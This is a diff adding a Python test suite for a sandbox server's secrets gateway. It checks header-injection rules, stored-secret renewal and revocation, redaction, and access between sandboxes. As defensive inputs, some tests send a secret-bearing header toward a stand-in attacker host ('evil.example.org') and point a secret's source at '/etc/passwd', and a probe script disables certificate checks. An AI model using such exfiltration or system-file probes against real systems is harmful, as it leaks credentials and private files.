@@ -1,0 +1,219 @@
+#!/usr/bin/env python3
+"""Secrets of a server's sandboxes, in the Internet of test_gateway_secrets.py: headers by E2B's rules, what a team keeps
+(/secrets) in our own API, changed and taken away while sandboxes run, and after the server has been killed. And that a
+sandbox reaches another's port by the server's own name, and nothing else of the server there.
+"""
+import contextlib
+import json
+import pathlib
+import signal
+import urllib.error
+import urllib.request
+
+import frame  # noqa: F401  (its paths)
+
+import serve_lab
+import test_gateway_secrets
+from test_gateway_secrets import PYTHON, VALUE
+
+STAGE = "CAISSON_SERVE_SECRETS_STAGE"
+OTHER = "ghp_otherCANARYotherCANARYother9876543"
+ASK = 'print(*request("api.example.com", "/all", headers={"Authorization": "Bearer " + token})[::2])'
+SERVE = """
+import http.server
+class Handler(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        body = ("host " + self.headers["Host"]).encode()
+        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
+http.server.HTTPServer(("127.0.0.1", 8080), Handler).serve_forever()
+"""
+
+
+class Stage(test_gateway_secrets.Lab):
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        context = serve_lab.fresh(tls=True)
+        cls.server = context.__enter__()
+        cls.addClassCleanup(context.__exit__, None, None, None)
+
+    def setUp(self):
+        self.forget()
+
+    def ask(self, method, path, body=None, expect=None):
+        request = urllib.request.Request(self.server.address["url"] + path, None if body is None else json.dumps(body).encode(),
+                                         {"X-API-KEY": self.server.key, "Content-Type": "application/json"}, method=method)
+        try:
+            with urllib.request.urlopen(request, timeout=60) as answer:
+                text = answer.read().decode()
+                status = answer.status
+                value = [json.loads(line) for line in text.splitlines()] if "ndjson" in answer.headers.get("Content-Type", "") else json.loads(text or "null")
+        except urllib.error.HTTPError as error:
+            status, text = error.code, error.read().decode()
+            value = json.loads(text)
+        self.assertNotIn("CANARY", text)
+        if expect is not None:
+            self.assertEqual(status, expect, value)
+        return value
+
+    @contextlib.contextmanager
+    def sandbox(self, path="/sandboxes", expect=201, **fields):
+        made = self.ask("POST", path, fields, expect)
+        identity = made.get("sandboxID") or made["id"]
+        try:
+            yield identity
+        finally:
+            self.ask("DELETE", f"/sandboxes/{identity}")
+
+    def e2b(self, **network):
+        return self.sandbox(templateID="base", timeout=300, network=network)
+
+    def inside(self, sandbox, script, token='""'):
+        script = PYTHON.replace('os.environ["GH_TOKEN"]', token) + script
+        done = self.ask("POST", f"/v1/sandboxes/{sandbox}/exec", {"command": ["python3", "-c", script]}, 200)
+        self.assertIn("end", done[-1], done)
+        return "".join(line.get("stdout", "") for line in done).splitlines()
+
+    def headers_seen(self, sandbox, host="api.example.com"):
+        (line,) = self.inside(sandbox, f'print(request("{host}", "/all")[1])')
+        return json.loads(line)
+
+    def assert_nothing_lies_about(self):
+        """In the server's folders: the database with its journal, logs, records."""
+        for folder in (self.server.caller.env["CAISSON_STATE_DIR"] + "/server", str(self.server.run_folder), str(self.server.log)):
+            files = [pathlib.Path(folder)] if pathlib.Path(folder).is_file() else [f for f in pathlib.Path(folder).rglob("*") if f.is_file()]
+            for file in files:
+                self.assertNotIn(b"CANARY", file.read_bytes(), file)
+
+    # ---- E2B's rules ----
+
+    def test_rules_set_headers_and_nobody_is_told_their_values(self):
+        rules = {"api.example.com": [{"transform": {"headers": {"X-Token": VALUE, "X-Short": "v"}}}]}
+        with self.e2b(rules=rules) as sandbox:
+            seen = self.headers_seen(sandbox)
+            self.assertEqual((seen["X-Token"], seen["X-Short"]), (VALUE, "v"))
+            self.assertNotIn("X-Token", self.headers_seen(sandbox, "also.example.com"))
+            shown = self.ask("GET", f"/sandboxes/{sandbox}")["network"]["rules"]
+            self.assertEqual(shown, {"api.example.com": [{"transform": {"headers": {"X-Short": "***", "X-Token": "***"}}}]})
+            self.assert_nothing_lies_about()
+            # Other rules, in place of these.
+            other = {"api.example.com": [{"transform": {"headers": {"X-Other": OTHER}}}]}
+            self.ask("PUT", f"/sandboxes/{sandbox}/network", {"rules": other}, 204)
+            seen = self.headers_seen(sandbox)
+            self.assertEqual((seen.get("X-Token"), seen["X-Other"]), (None, OTHER))
+            # A server that starts again can still tell the gateway something.
+            self.server.stop(signal.SIGKILL)
+            self.server.start()
+            self.assertEqual(self.headers_seen(sandbox)["X-Other"], OTHER)
+            self.ask("PUT", f"/sandboxes/{sandbox}/network", {"rules": rules}, 204)
+            self.assertEqual(self.headers_seen(sandbox)["X-Token"], VALUE)
+
+    def test_a_domain_with_rules_is_allowed_or_not_as_ever(self):
+        rules = {"api.example.com": [{"transform": {"headers": {"X-Token": VALUE}}}]}
+        with self.e2b(rules=rules, denyOut=["0.0.0.0/0"]) as sandbox:
+            self.assertEqual(self.inside(sandbox, 'print(request("api.example.com", "/all")[:2])')[0][:2], "(0")
+            self.assertEqual(self.received("good"), b"")
+        with self.e2b(rules=rules, denyOut=["0.0.0.0/0"], allowOut=["api.example.com"]) as sandbox:
+            self.assertEqual(self.headers_seen(sandbox)["X-Token"], VALUE)
+
+    def test_a_sandbox_that_was_made_without_rules_gets_none_later(self):
+        rules = {"api.example.com": [{"transform": {"headers": {"X-Token": VALUE}}}]}
+        with self.e2b() as sandbox:
+            refused = self.ask("PUT", f"/sandboxes/{sandbox}/network", {"rules": rules})
+            self.assertIn("trusts no certificate of its gateway", refused["message"])
+
+    # ---- what a team keeps ----
+
+    def kept(self, name="forge", value=VALUE):
+        made = self.ask("POST", "/secrets", {"name": name, "value": value}, 201)
+        self.addCleanup(self.ask, "DELETE", f"/secrets/{name}")
+        return made
+
+    def spec(self, name="forge"):
+        return {"image": "base", "network": {
+            "rules": [{"hosts": ["api.example.com"]}, {"hosts": ["evil.example.org"], "tls": "inspect"}],
+            "secrets": {"gh": {"env": "GH_TOKEN", "source": {"vault": name}, "hosts": ["api.example.com"]}}}}
+
+    def test_a_kept_secret_is_used_renewed_and_revoked(self):
+        self.kept()
+        with self.sandbox("/v1/sandboxes", spec=self.spec()) as sandbox:
+            ask = lambda: self.inside(sandbox, ASK, 'os.environ["GH_TOKEN"]')
+            self.assertEqual(ask(), ["200 "])
+            self.assertIn(b"Bearer " + VALUE.encode() + b"\r\n", self.received("good"))
+            why = self.inside(sandbox, 'print(why(request("evil.example.org", headers={"Authorization": token})))', 'os.environ["GH_TOKEN"]')
+            self.assertEqual(why, ["(403, 'secret_host')"])
+            self.assert_nothing_lies_about()
+            self.forget()
+            self.assertEqual(self.ask("POST", "/secrets/forge", {"value": OTHER}, 200)["currentVersion"], 2)
+            self.assertEqual(ask(), ["200 "])
+            self.assertIn(b"Bearer " + OTHER.encode() + b"\r\n", self.received("good"))
+            self.forget()
+            self.ask("DELETE", "/secrets/forge", expect=204)
+            self.assertEqual(ask(), ["403 denied; reason=secret_revoked"])
+            self.assertEqual(self.received("good"), b"")
+
+    def test_a_fork_has_the_placeholder_and_the_secret(self):
+        self.kept()
+        with self.sandbox("/v1/sandboxes", spec=self.spec()) as sandbox:
+            (token,) = self.inside(sandbox, "print(token)", 'os.environ["GH_TOKEN"]')
+            (fork,) = self.ask("POST", f"/sandboxes/{sandbox}/fork", {"count": 1}, 201)
+            fork = fork["sandbox"]["sandboxID"]
+            try:
+                self.assertEqual(self.inside(fork, "print(token)", 'os.environ["GH_TOKEN"]'), [token])
+                self.assertEqual(self.inside(fork, ASK, 'os.environ["GH_TOKEN"]'), ["200 "])
+            finally:
+                self.ask("DELETE", f"/sandboxes/{fork}")
+            self.assertIn(b"Bearer " + VALUE.encode() + b"\r\n", self.received("good"))
+
+    def test_e2bs_rules_refer_to_what_is_kept(self):
+        self.kept()
+        with self.e2b(rules={"api.example.com": [{"transform": {"headers": {"Authorization": "Bearer ${e2b.secrets.forge}"}}}]}) as sandbox:
+            self.assertEqual(self.inside(sandbox, ASK, '"mine"'), ["200 "])
+            got = self.received("good")
+            self.assertIn(b"Bearer " + VALUE.encode() + b"\r\n", got)
+            self.assertNotIn(b"mine", got)
+
+    def test_what_nobody_keeps_and_what_is_this_hosts_makes_no_sandbox(self):
+        refused = self.ask("POST", "/v1/sandboxes", {"spec": self.spec("nothing")}, 400)
+        self.assertIn("the vault has no secret nothing", refused["message"])
+        spec = self.spec()
+        spec["network"]["secrets"]["gh"]["source"] = {"file": "/etc/passwd"}
+        self.assertIn("network.secrets.gh.source", self.ask("POST", "/v1/sandboxes", {"spec": spec}, 400)["message"])
+
+    # ---- another sandbox's port ----
+
+    def test_a_sandbox_reaches_anothers_port_and_nothing_else_of_the_server(self):
+        domain = self.server.address["domain"]
+        with self.e2b() as shown, self.e2b() as sandbox:
+            started = self.ask("POST", f"/v1/sandboxes/{shown}/commands", {"command": ["python3", "-c", SERVE]})
+            self.assertIn("pid", json.dumps(started))
+            script = """
+import socket, ssl, sys, time
+name, port = sys.argv[1].rsplit(":", 1)
+def ask(host, sni=name):
+    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
+    try:
+        with context.wrap_socket(socket.create_connection((sni, int(port)), 10), server_hostname=sni) as s:
+            s.sendall(f"GET /sandboxes HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode())
+            data = b""
+            while piece := s.recv(4096): data += piece
+            return data.split(b"\\r\\n")[0].decode() + " " + data.rpartition(b"\\r\\n")[2].decode()
+    except OSError as error:
+        return type(error).__name__
+for _ in range(50):
+    answer = ask(sys.argv[1])
+    if " 200 " in answer: break
+    time.sleep(0.2)
+print(answer)
+print(ask("api." + name.partition(".")[2])[:12])
+print(ask("api.x", "api." + name.partition(".")[2]))
+""".replace("\\\\", "\\")
+            done = self.ask("POST", f"/v1/sandboxes/{sandbox}/exec", {"command": ["python3", "-c", script, f"8080-{shown}.{domain}"]}, 200)
+            lines = "".join(line.get("stdout", "") for line in done).splitlines()
+            self.assertEqual(lines[0], f"HTTP/1.1 200 OK host 8080-{shown}.{domain}", done)
+            self.assertEqual(lines[1], "HTTP/1.1 421", done)
+            self.assertIn(lines[2], ("SSLError", "SSLEOFError", "ConnectionResetError"), done)
+
+
+if __name__ == "__main__":
+    test_gateway_secrets.main(__file__, STAGE)
